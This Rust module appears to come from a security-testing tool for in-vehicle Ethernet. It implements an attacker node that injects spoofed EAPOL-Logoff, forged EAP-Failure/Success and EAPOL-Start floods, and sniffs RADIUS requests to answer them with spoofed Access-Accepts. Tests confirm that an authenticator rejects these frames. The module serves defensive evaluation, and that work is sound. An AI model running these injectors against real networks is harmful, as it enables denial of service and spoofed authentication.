//! The 802.1X classes of `ivnsec attack --eap` (docs/attacks.md, "802.1X (--eap)"): sensor1
//! runs `ivnsec macsec up --eap-tls` (the supplicant), the consumer `ivnsec macsec up
//! --authenticator` (pass-through to a FreeRADIUS in sensor1's namespace, so that RADIUS crosses
//! the switch), and they ping each other through their TAPs while the attacker, a third ECU on
//! the same switch, injects:
//!
//! - [`EapAttack::LogoffSpoofed`]: EAPOL-Logoff to the authenticator from the attacker's MAC and
//!   from random MACs (no session of theirs: dropped as `unexpected`).
//! - [`EapAttack::FailureSpoofed`]: EAP-Failure and EAP-Success with every identifier 0..255
//!   from the attacker's MAC to the supplicant's MAC and the PAE group address (not its
//!   authenticator: `wrong_source`).
//! - [`EapAttack::RadiusForgedAccept`]: the attacker sniffs the authenticator's Access-Requests
//!   (the switch is a hub) and answers each at once with an Access-Accept spoofed from the
//!   RADIUS server (its MAC, IPv4 address and port), same identifier, a random Response
//!   Authenticator and MS-MPPE keys of its own; also unsolicited ones (`bad_response_authenticator`
//!   or `unknown_id` at the RADIUS client).
//! - [`EapAttack::StartFlood`]: EAPOL-Start from random MACs as fast as the attacker can (the
//!   authenticator's session table stays bounded: `too_many_sessions`, `rate_limited`).
//!
//! This module: the classes, the attacker's spec, the forging (no I/O) and the attacker node
//! (`ivnsec node eap-attack`); [`super::eap_run`] orchestrates.

use std::io::Write;
use std::net::Ipv4Addr;
use std::os::fd::AsFd;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, anyhow};
use ivnsec_core::channel::{DirectionKeys, write_udp_frame};
use ivnsec_core::wire::eap;
use ivnsec_core::wire::eapol::{self, ETHERTYPE_EAPOL, FrameRepr, PAE_GROUP_ADDR, packet_types};
use ivnsec_core::wire::ethernet::MacAddr;
use ivnsec_net::sys::RawSocket;
use serde::{Deserialize, Serialize};

use crate::process::{NodeSpec, read_spec};

/// The RADIUS authentication port.
pub const RADIUS_PORT: u16 = 1812;

/// The 802.1X attack classes, in the order `ivnsec attack --eap` runs them (the flood last: the
/// sessions it opens stay until their timeouts).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize, PartialOrd, Ord)]
#[serde(rename_all = "kebab-case")]
pub enum EapAttack {
    /// EAPOL-Logoff to the authenticator from the attacker's MAC and from random MACs.
    LogoffSpoofed,
    /// EAP-Failure and EAP-Success (identifiers 0..255) to the supplicant from the attacker.
    FailureSpoofed,
    /// Access-Accepts spoofed from the RADIUS server with a Response Authenticator the
    /// attacker cannot compute (it has no shared secret).
    RadiusForgedAccept,
    /// EAPOL-Start from random MACs as fast as possible.
    StartFlood,
}

impl EapAttack {
    pub const ALL: [EapAttack; 4] = [
        EapAttack::LogoffSpoofed,
        EapAttack::FailureSpoofed,
        EapAttack::RadiusForgedAccept,
        EapAttack::StartFlood,
    ];

    /// The stable name used in tables and JSON.
    pub fn name(self) -> &'static str {
        match self {
            EapAttack::LogoffSpoofed => "eap-logoff-spoofed",
            EapAttack::FailureSpoofed => "eap-failure-spoofed",
            EapAttack::RadiusForgedAccept => "radius-forged-accept",
            EapAttack::StartFlood => "eapol-start-flood",
        }
    }

    /// The drop reasons that judge this class's frames: PAE drops of both members by name,
    /// RADIUS drops of the authenticator's client as `radius.NAME`.
    pub fn judged_by(self) -> &'static [&'static str] {
        match self {
            EapAttack::LogoffSpoofed => &["unexpected", "unsupported_type"],
            EapAttack::FailureSpoofed => &["wrong_source", "unexpected", "bad_identifier"],
            EapAttack::RadiusForgedAccept => &[
                "radius.bad_response_authenticator",
                "radius.unknown_id",
                "radius.bad_message_authenticator",
            ],
            EapAttack::StartFlood => &["too_many_sessions", "rate_limited", "quiet"],
        }
    }
}

/// What the members' state says about one class (the 802.1X part of an
/// [`AttackResult`](super::AttackResult)).
#[derive(Clone, Debug, Default, Serialize, PartialEq)]
pub struct EapAccount {
    /// `eap_failure`, `cak_removed` and `cak_changed` to a CA that is not EAP-derived, at
    /// either member during the class.
    pub forged_state_changes: u64,
    /// Successes at the authenticator whose CKN the supplicant never derived (a CAK from
    /// forged keys).
    pub foreign_ckns: u64,
    /// RADIUS Access-Accepts the client took beyond the legitimate re-authentications.
    pub extra_accepts: u64,
    /// Legitimate re-authentications during the class (successes at the supplicant).
    pub legit_reauths: u64,
    /// Sessions at the authenticator after the class, and its bound.
    pub sessions_after: u64,
    pub max_sessions: u64,
    /// The legitimate supplicant is still authenticated at the end of the class.
    pub supplicant_kept: bool,
    /// Access-Requests the attacker saw and answered (radius-forged-accept).
    pub requests_answered: u64,
    /// RTT of the legitimate ping across the TAPs (µs): median and maximum.
    pub ping_rtt_p50_us: Option<f64>,
    pub ping_rtt_max_us: Option<f64>,
}

/// Everything the 802.1X attacker process needs.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct EapAttackSpec {
    pub attack: EapAttack,
    /// Frames to inject (Access-Accepts: answers and unsolicited ones together).
    pub count: u64,
    /// The attacker's interface and MAC.
    pub ifname: String,
    pub attacker_mac: [u8; 6],
    pub supplicant_mac: [u8; 6],
    /// The authenticator (the RADIUS client): its MAC and IPv4 address.
    pub authenticator_mac: [u8; 6],
    pub authenticator_ip: Ipv4Addr,
    /// The RADIUS server the attacker impersonates.
    pub radius_mac: [u8; 6],
    pub radius_ip: Ipv4Addr,
    /// radius-forged-accept: inject for at least this long (the Access-Requests of the
    /// re-authentications come every few seconds).
    pub min_seconds: f64,
}

impl NodeSpec for EapAttackSpec {
    fn keys(&self) -> Vec<&DirectionKeys> {
        Vec::new()
    }
    fn keys_mut(&mut self) -> Vec<&mut DirectionKeys> {
        Vec::new()
    }
}

fn random(buf: &mut [u8]) -> Result<()> {
    ivnsec_crypto::PORTABLE
        .rng
        .fill(buf)
        .map_err(|e| anyhow!("random generator: {e}"))
}

/// A random locally administered unicast MAC.
pub fn random_mac() -> Result<[u8; 6]> {
    let mut m = [0u8; 6];
    random(&mut m)?;
    m[0] = (m[0] & 0xFC) | 0x02;
    Ok(m)
}

/// A whole Ethernet frame carrying one EAPOL PDU.
pub fn eapol_frame(dst: [u8; 6], src: [u8; 6], packet_type: u8, body: &[u8]) -> Result<Vec<u8>> {
    FrameRepr {
        dst: MacAddr(dst),
        src: MacAddr(src),
        eapol: eapol::Repr::new(packet_type, body),
    }
    .to_vec()
    .map_err(|e| anyhow!("building an EAPOL frame: {e}"))
}

/// Frame `i` of the EAPOL classes (logoff, failure, flood); `None` for radius-forged-accept.
pub fn forge_eapol(spec: &EapAttackSpec, i: u64) -> Result<Option<Vec<u8>>> {
    let frame = match spec.attack {
        EapAttack::LogoffSpoofed => {
            let src = if i % 2 == 0 {
                spec.attacker_mac
            } else {
                random_mac()?
            };
            let dst = if i % 4 < 2 {
                spec.authenticator_mac
            } else {
                PAE_GROUP_ADDR.0
            };
            eapol_frame(dst, src, packet_types::LOGOFF, &[])?
        }
        EapAttack::FailureSpoofed => {
            let id = (i % 256) as u8;
            let e = if (i / 256) % 2 == 0 {
                eap::Repr::failure(id)
            } else {
                eap::Repr::success(id)
            };
            let body = e.to_vec().map_err(|e| anyhow!("{e}"))?;
            let dst = if i % 2 == 0 {
                spec.supplicant_mac
            } else {
                PAE_GROUP_ADDR.0
            };
            eapol_frame(dst, spec.attacker_mac, packet_types::EAP_PACKET, &body)?
        }
        EapAttack::StartFlood => {
            eapol_frame(PAE_GROUP_ADDR.0, random_mac()?, packet_types::START, &[])?
        }
        EapAttack::RadiusForgedAccept => return Ok(None),
    };
    Ok(Some(frame))
}

/// An Access-Request of `client` to the RADIUS server in an Ethernet/IPv4/UDP frame: its
/// identifier and the client's UDP port.
pub fn access_request(frame: &[u8], client: Ipv4Addr, server: Ipv4Addr) -> Option<(u8, u16)> {
    let ip = frame.get(14..)?;
    if frame.get(12..14)? != [0x08, 0x00] || ip.first()? >> 4 != 4 || *ip.get(9)? != 17 {
        return None;
    }
    let hl = usize::from(ip.first()? & 0x0F) * 4;
    if ip.get(12..16)? != client.octets() || ip.get(16..20)? != server.octets() {
        return None;
    }
    let udp = ip.get(hl..)?;
    let sport = u16::from_be_bytes([*udp.first()?, *udp.get(1)?]);
    let dport = u16::from_be_bytes([*udp.get(2)?, *udp.get(3)?]);
    let radius = udp.get(8..)?;
    (dport == RADIUS_PORT && *radius.first()? == 1).then_some((*radius.get(1)?, sport))
}

/// A forged Access-Accept (code 2) with identifier `id`: a random Response Authenticator,
/// EAP-Success, MS-MPPE-Recv-Key and -Send-Key of the attacker's choosing, and a random
/// Message-Authenticator (the attacker has no shared secret to compute either).
pub fn forged_accept(id: u8) -> Result<Vec<u8>> {
    let mut p = vec![2u8, id, 0, 0];
    let mut auth = [0u8; 16];
    random(&mut auth)?;
    p.extend_from_slice(&auth);
    // EAP-Message: EAP-Success.
    let success = eap::Repr::success(id)
        .to_vec()
        .map_err(|e| anyhow!("{e}"))?;
    p.push(79);
    p.push(2 + success.len() as u8);
    p.extend_from_slice(&success);
    // Message-Authenticator.
    let mut ma = [0u8; 16];
    random(&mut ma)?;
    p.extend_from_slice(&[80, 18]);
    p.extend_from_slice(&ma);
    // Vendor-Specific (Microsoft, 311): MS-MPPE-Send-Key (16) and MS-MPPE-Recv-Key (17), a salt
    // and 48 bytes each (what the attacker wants the MSK to be, unencrypted under no secret).
    for vtype in [16u8, 17] {
        let mut key = [0u8; 48];
        random(&mut key)?;
        let inner_len = 2 + 2 + key.len();
        p.push(26);
        p.push((2 + 4 + inner_len) as u8);
        p.extend_from_slice(&311u32.to_be_bytes());
        p.push(vtype);
        p.push(inner_len as u8);
        p.extend_from_slice(&[0x80, 0x01]);
        p.extend_from_slice(&key);
    }
    let len = p.len() as u16;
    p[2..4].copy_from_slice(&len.to_be_bytes());
    Ok(p)
}

/// The forged Access-Accept as a whole Ethernet/IPv4/UDP frame from the RADIUS server to the
/// authenticator's client port (correct IPv4 and UDP checksums).
pub fn accept_frame(spec: &EapAttackSpec, id: u8, client_port: u16) -> Result<Vec<u8>> {
    let mut out = Vec::with_capacity(256);
    write_udp_frame(
        &mut out,
        (spec.radius_mac, spec.radius_ip, RADIUS_PORT),
        (spec.authenticator_mac, spec.authenticator_ip, client_port),
        &forged_accept(id)?,
    );
    Ok(out)
}

/// One EAPOL frame every this long (logoff, failure): the members judge each one.
const PACE: Duration = Duration::from_micros(200);
/// Unsolicited Access-Accepts: one every this long.
const ACCEPT_PACE: Duration = Duration::from_millis(2);

/// The attacker node (`ivnsec node eap-attack`): its spec arrives on stdin
/// ([`crate::process`]); it injects `count` frames of its class and prints `INJECTED <n>`,
/// `ANSWERED <n>` (Access-Requests answered), `SECONDS <s>` and `END`.
pub fn node() -> Result<()> {
    let spec: EapAttackSpec = read_spec()?;
    let started = Instant::now();
    let mut injected = 0u64;
    let mut answered = 0u64;
    if spec.attack == EapAttack::RadiusForgedAccept {
        let sock = RawSocket::open(&spec.ifname, 0x0800)
            .with_context(|| format!("opening an IPv4 socket on {}", spec.ifname))?;
        sock.set_promiscuous()
            .context("promiscuous mode (the Access-Requests go to the server's MAC)")?;
        let mut rx = vec![0u8; 4096];
        let mut client_port = None;
        let mut next_unsolicited = Instant::now();
        let min = Duration::from_secs_f64(spec.min_seconds.max(0.0));
        while injected < spec.count || started.elapsed() < min {
            if started.elapsed() > min + Duration::from_secs(30) {
                break;
            }
            while let Some(m) = sock.try_recv(&mut rx)? {
                if m.truncated() {
                    continue;
                }
                if let Some((id, port)) =
                    access_request(&rx[..m.len], spec.authenticator_ip, spec.radius_ip)
                {
                    client_port = Some(port);
                    sock.send(&accept_frame(&spec, id, port)?)
                        .context("injecting an Access-Accept")?;
                    injected += 1;
                    answered += 1;
                }
            }
            if let Some(port) = client_port {
                if Instant::now() >= next_unsolicited && injected < spec.count {
                    let mut id = [0u8; 1];
                    random(&mut id)?;
                    sock.send(&accept_frame(&spec, id[0], port)?)
                        .context("injecting an Access-Accept")?;
                    injected += 1;
                    next_unsolicited = Instant::now() + ACCEPT_PACE;
                }
            }
            ivnsec_net::sys::wait_readable(sock.as_fd(), Some(Duration::from_millis(1)))?;
        }
    } else {
        let sock = RawSocket::open(&spec.ifname, ETHERTYPE_EAPOL)
            .with_context(|| format!("opening an EAPOL socket on {}", spec.ifname))?;
        while injected < spec.count {
            if let Some(f) = forge_eapol(&spec, injected)? {
                sock.send(&f).context("injecting an EAPOL frame")?;
            }
            injected += 1;
            if spec.attack != EapAttack::StartFlood {
                std::thread::sleep(PACE);
            }
        }
    }
    let seconds = started.elapsed().as_secs_f64();
    let out = std::io::stdout();
    let mut out = out.lock();
    writeln!(out, "INJECTED {injected}")?;
    writeln!(out, "ANSWERED {answered}")?;
    writeln!(out, "SECONDS {seconds:.6}")?;
    writeln!(out, "END")?;
    out.flush()?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use ivnsec_core::channel::UDP_AT;
    use ivnsec_core::pae::{AuthenticatorConfig, PaeDrop};

    fn spec(attack: EapAttack) -> EapAttackSpec {
        EapAttackSpec {
            attack,
            count: 600,
            ifname: "eth0".into(),
            attacker_mac: [2, 0, 0, 0, 0, 9],
            supplicant_mac: [2, 0, 0, 0, 0, 1],
            authenticator_mac: [2, 0, 0, 0, 0, 2],
            authenticator_ip: Ipv4Addr::new(10, 0, 0, 2),
            radius_mac: [2, 0, 0, 0, 0, 1],
            radius_ip: Ipv4Addr::new(10, 0, 0, 1),
            min_seconds: 0.0,
        }
    }

    /// The RADIUS client's drop reasons in the authenticator's status.
    const RADIUS_DROPS: [&str; 7] = [
        "malformed",
        "unknown_id",
        "wrong_source",
        "bad_response_authenticator",
        "bad_message_authenticator",
        "missing_message_authenticator",
        "bad_mppe_key",
    ];

    #[test]
    fn names_are_stable_and_distinct() {
        let names: Vec<&str> = EapAttack::ALL.iter().map(|a| a.name()).collect();
        assert_eq!(
            names,
            [
                "eap-logoff-spoofed",
                "eap-failure-spoofed",
                "radius-forged-accept",
                "eapol-start-flood"
            ]
        );
        for a in EapAttack::ALL {
            for r in a.judged_by() {
                assert!(
                    PaeDrop::ALL.contains(r)
                        || r.strip_prefix("radius.")
                            .is_some_and(|r| RADIUS_DROPS.contains(&r)),
                    "{r}"
                );
            }
        }
    }

    /// The logoffs and the flood, handed to a real authenticator with no session of theirs,
    /// are dropped for the reasons the class is judged by, and its table stays bounded.
    #[test]
    fn logoffs_and_starts_are_dropped_and_bounded() {
        let mut cfg = AuthenticatorConfig::new([2, 0, 0, 0, 0, 2]);
        cfg.max_sessions = 16;
        let mut a = ivnsec_core::pae::Authenticator::new(cfg, 0);
        for attack in [EapAttack::LogoffSpoofed, EapAttack::StartFlood] {
            let s = spec(attack);
            for i in 0..s.count {
                let f = forge_eapol(&s, i).unwrap().unwrap();
                if let Err(d) = a.handle_frame(1_000_000 + i, &f) {
                    assert!(attack.judged_by().contains(&d.name()), "{attack:?}: {d:?}");
                }
            }
            assert!(a.sessions().len() <= 16);
        }
    }

    #[test]
    fn failures_cover_every_identifier_and_both_codes() {
        let s = spec(EapAttack::FailureSpoofed);
        let mut seen = std::collections::HashSet::new();
        for i in 0..512 {
            let f = forge_eapol(&s, i).unwrap().unwrap();
            let r = FrameRepr::parse(&f).unwrap();
            assert_eq!(r.src.0, s.attacker_mac);
            let e = eap::Repr::parse(r.eapol.body).unwrap();
            seen.insert((e.code, e.identifier));
        }
        assert_eq!(seen.len(), 512);
    }

    #[test]
    fn accepts_answer_the_sniffed_request_with_right_checksums() {
        let s = spec(EapAttack::RadiusForgedAccept);
        // An Access-Request of the authenticator, as the attacker sees it.
        let mut req = vec![1u8, 42, 0, 20];
        req.extend_from_slice(&[7; 16]);
        let mut frame = Vec::new();
        write_udp_frame(
            &mut frame,
            (s.authenticator_mac, s.authenticator_ip, 40000),
            (s.radius_mac, s.radius_ip, RADIUS_PORT),
            &req,
        );
        assert_eq!(
            access_request(&frame, s.authenticator_ip, s.radius_ip),
            Some((42, 40000))
        );
        assert_eq!(
            access_request(&frame, s.radius_ip, s.authenticator_ip),
            None
        );
        let f = accept_frame(&s, 42, 40000).unwrap();
        assert_eq!(&f[..6], &s.authenticator_mac);
        assert_eq!(&f[6..12], &s.radius_mac);
        let mut ip = f[14..34].to_vec();
        ivnsec_core::wire::ip::fill_ipv4_checksum(&mut ip);
        assert_eq!(ip, f[14..34]);
        let mut udp = f[34..].to_vec();
        let sum = u16::from_be_bytes([udp[6], udp[7]]);
        udp[6..8].copy_from_slice(&[0, 0]);
        assert_eq!(
            ivnsec_core::wire::ip::udp_checksum_v4(s.radius_ip, s.authenticator_ip, &udp),
            sum
        );
        let radius = &f[UDP_AT..];
        assert_eq!((radius[0], radius[1]), (2, 42));
        assert_eq!(
            usize::from(u16::from_be_bytes([radius[2], radius[3]])),
            radius.len()
        );
    }
}
